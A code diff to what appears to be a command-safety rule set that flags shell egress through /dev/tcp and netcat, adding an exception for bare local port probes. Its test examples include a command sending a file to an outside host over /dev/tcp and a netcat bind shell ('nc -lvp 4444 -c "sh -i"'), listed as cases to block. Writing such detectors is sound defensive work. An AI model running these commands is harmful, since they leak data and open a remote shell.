@@ -98,10 +98,20 @@ function opensShell(command: SimpleCommand): boolean {
   );
 }
 
+const socket = /^\/dev\/(?:tcp|udp)\//;
+
+/** `</dev/tcp/127.0.0.1/8080` alone only sees whether a port of this machine answers. */
+const probesHere = ({ name }: SimpleCommand, path: string) =>
+  (name === '' || name === ':' || name === 'true') && /^\/dev\/tcp\/(?:localhost|127(?:\.\d+){3}|::1)\/\d+$/.test(path);
+
 function usesRawSocket(command: SimpleCommand): boolean {
   return (
-    command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text)) ||
-    (command.stdin.kind === 'file' && /^\/dev\/(?:tcp|udp)\//.test(command.stdin.path.text))
+    command.redirects.some(
+      ({ kind, target }) => socket.test(target.text) && !(kind === '<' && probesHere(command, target.text)),
+    ) ||
+    (command.stdin.kind === 'file' &&
+      socket.test(command.stdin.path.text) &&
+      !probesHere(command, command.stdin.path.text))
   );
 }
 
@@ -230,7 +240,7 @@ export const egressRules: readonly Rule[] = [
         'cat a > /dev/tcp/example.com/80',
         'nc -lvp 4444 -c "sh -i"',
       ],
-      ok: ['nc -z localhost 5432', 'nc -zv example.com 443', 'echo /dev/tcp/x/1'],
+      ok: ['nc -z localhost 5432', 'nc -zv example.com 443', 'echo /dev/tcp/x/1', '</dev/tcp/127.0.0.1/8080'],
     },
   },
   {
